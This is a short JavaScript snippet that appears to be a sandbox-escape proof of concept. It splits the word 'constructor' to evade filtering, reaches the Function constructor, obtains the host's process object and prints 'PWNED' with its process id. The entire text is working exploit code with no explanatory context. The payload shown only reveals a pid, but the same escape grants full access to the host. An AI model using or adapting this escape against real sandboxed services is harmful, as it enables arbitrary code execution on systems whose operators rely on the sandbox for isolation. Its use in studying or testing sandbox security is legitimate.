const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
console.log('PWNED', new Object(t).go(fn)('return process')().pid);
